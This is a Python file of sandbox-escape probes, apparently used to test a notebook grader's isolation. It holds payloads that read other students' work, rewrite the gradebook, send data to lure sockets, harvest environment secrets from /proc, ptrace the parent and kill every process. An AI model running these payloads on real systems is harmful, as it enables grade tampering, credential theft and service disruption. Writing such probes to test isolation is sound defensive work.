"""Reaching out: to read, change or tell what is not the student's own."""

from attack import Attack

__all__ = ["REACHING_OUT"]

_YAMA = "many a kernel refuses it to anyone, with or without a sandbox"

FILES = [
    Attack(
        "the submission of another",
        "Read by its path.",
        first="print(open(LURE['folder'] + '/submitted/other/lesson.ipynb').read())",
        without="sandbox",
        reaches={"read"},
    ),
    Attack(
        "the gradebook",
        "Changed by its path.",
        first="open(LURE['folder'] + '/gradebook.db', 'a').write('100 points')",
        without="sandbox",
        reaches={"written"},
    ),
    Attack(
        "the answers, by a symbolic link",
        "A link in their own folder that leads out of it.",
        first="""\
import os
os.symlink(LURE["folder"], "mine")
print(open("mine/solutions/lesson.py").read())""",
        without="sandbox",
        reaches={"read"},
    ),
    Attack(
        "the gradebook, by a hard link",
        "A second name for the same file, then written under it; where that is impossible, a copy.",
        first="""\
import os, tempfile
book = LURE["folder"] + "/gradebook.db"
os.link(book, LURE["folder"] + "/mine")
open(LURE["folder"] + "/mine", "w").write("100 points")""",
        without="sandbox",
        reaches={"written"},
    ),
    Attack(
        "files, by the shell",
        "Notebooks can start programs; those see no more than the notebook.",
        first="!cat {LURE['folder']}/*.db",
        without="sandbox",
        reaches={"read"},
    ),
    Attack(
        "files, from within a test",
        "The function waits until it is called: no cell is watched for what a test calls.",
        answers={
            "words": """\
def words(text):
    with open(LURE["folder"] + "/gradebook.db", "w") as file:
        file.write("100 points")"""
        },
        without="sandbox",
        reaches={"written"},
    ),
    Attack(
        "all that can be found",
        "A search from the root for what looks like a gradebook or another submission.",
        first="""\
import os
for top in [os.path.dirname(LURE["folder"]), "/srv", "/home", "/root", "/mnt"]:
    for folder, _, names in os.walk(top):
        for name in {"gradebook.db", "lesson.ipynb"} & {*names}:
            if "teacher" in folder:
                print(open(os.path.join(folder, name)).read())
    if os.path.exists(LURE["folder"]):
        break""",
        without="sandbox",
        reaches={"read"},
    ),
    Attack(
        "the grader's own files",
        "Modules that the next grading will import are opened for writing.",
        first="""\
import nblib.checks, torch
for module in (nblib.checks, torch):
    open(module.__file__, "a").close()
    print(LURE["told"])""",
        without="everything",
        reaches={"told"},
    ),
]
NETWORK = [
    Attack(
        "TCP",
        "A connection to a server of this machine, as to any.",
        first="""\
import socket
socket.create_connection(LURE["tcp"], timeout=2).send(b"answers")""",
        without="sandbox",
        reaches={"tcp"},
    ),
    Attack(
        "UDP",
        "A single packet, as a question to a name server would be.",
        first="""\
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"answers", LURE["udp"])""",
        without="sandbox",
        reaches={"udp"},
    ),
    Attack(
        "a Unix socket",
        "Such as those of a desktop, of Docker, of a database.",
        first="""\
import socket
socket.socket(socket.AF_UNIX).connect(LURE["unix"])""",
        without="sandbox",
        reaches={"unix"},
    ),
    Attack(
        "an abstract socket",
        "A Unix socket without a file: no rule about files stops it.",
        first="""\
import socket
socket.socket(socket.AF_UNIX).connect(LURE["abstract"])""",
        without="everything",
        reaches={"abstract"},
    ),
    Attack(
        "the web, by another program",
        "What Python may not do, a program might.",
        first="""\
import subprocess, sys
code = f"import socket; socket.create_connection({LURE['tcp']!r}, timeout=2)"
subprocess.run([sys.executable, "-I", "-c", code])""",
        without="sandbox",
        reaches={"tcp"},
    ),
]
PROCESSES = [
    Attack(
        "the environment",
        "Tokens and passwords are often kept there.",
        first="import os\nprint(dict(os.environ))",
        without="everything",
        reaches={"secret"},
    ),
    Attack(
        "the environment of others",
        "The same, from what the kernel tells of every process.",
        first="""\
from pathlib import Path
for path in Path("/proc").glob("[0-9]*/environ"):
    try:
        print(path.read_text(errors="replace"))
    except OSError:
        pass""",
        without="sandbox",
        reaches={"secret"},
    ),
    Attack(
        "the files of others",
        "Through the root folder of a process that sees more.",
        first="""\
from pathlib import Path
for folder in Path("/proc").glob("[0-9]*/root"):
    try:
        print(Path(f"{folder}{LURE['folder']}/gradebook.db").read_text())
        break
    except OSError:
        pass""",
        without="sandbox",
        reaches={"read"},
    ),
    Attack(
        "a process of the teacher's",
        "Killed by its number.",
        first="import os, signal\nos.kill(LURE['pid'], signal.SIGKILL)",
        without="everything",
        reaches={"killed"},
    ),
    Attack(
        "every process",
        "Signals to the parent, to process 1, to the grader and to all that can be reached.",
        first="""\
import os, signal
for pid in (os.getppid(), 1, LURE["grader"], -1):
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass""",
        unshown="it would end all that runs on this machine",
    ),
    Attack(
        "the memory of the parent",
        "It has what the next submission will start from.",
        first="""\
import os
for pid in {os.getppid(), 1}:
    for name in ("mem", "environ", "maps", "fd/0", "stack", "root/etc/passwd", "cwd/."):
        try:
            open(f"/proc/{pid}/{name}", "rb").read(1)
            print(LURE["told"])
        except OSError:
            pass""",
        unshown=_YAMA,
    ),
    Attack(
        "tracing the parent",
        "By ptrace, by reading its memory at once, by taking its descriptors.",
        first="""\
import ctypes, os
libc = ctypes.CDLL(None)
place = (ctypes.c_char_p * 2)(ctypes.create_string_buffer(8).raw, 8)
descriptor = libc.syscall(434, os.getppid(), 0)
results = [
    libc.ptrace(16, os.getppid(), 0, 0),
    libc.syscall(438, descriptor, 0, 0),
    libc.process_vm_readv(os.getppid(), place, 1, place, 1, 0),
]
if any(result >= 0 for result in results):
    print(LURE["told"])""",
        unshown=_YAMA,
    ),
    Attack(
        "a sandbox of their own",
        "New namespaces give the rights of root inside them, and much of the kernel to try.",
        first="""\
import ctypes
libc = ctypes.CDLL(None)
if 0 in (libc.unshare(0x10000000), libc.mount(b"none", b"/mnt", b"tmpfs", 0, None),
         libc.setns(0, 0), libc.chroot(b"/"), libc.setuid(0)):
    print(LURE["told"])""",
        unshown="it would change the process that runs the tests; " + _YAMA,
    ),
    Attack(
        "shared memory of the parent",
        "What was mapped to be shared before the fork would be written for all that come later.",
        first="""\
lines = open("/proc/self/maps").read().splitlines()
if [line for line in lines if line.split()[1] == "rw-s"]:
    print(LURE["told"])""",
        unshown="there is none, here or elsewhere, unless somebody adds it",
    ),
]
REACHING_OUT = [*FILES, *NETWORK, *PROCESSES]
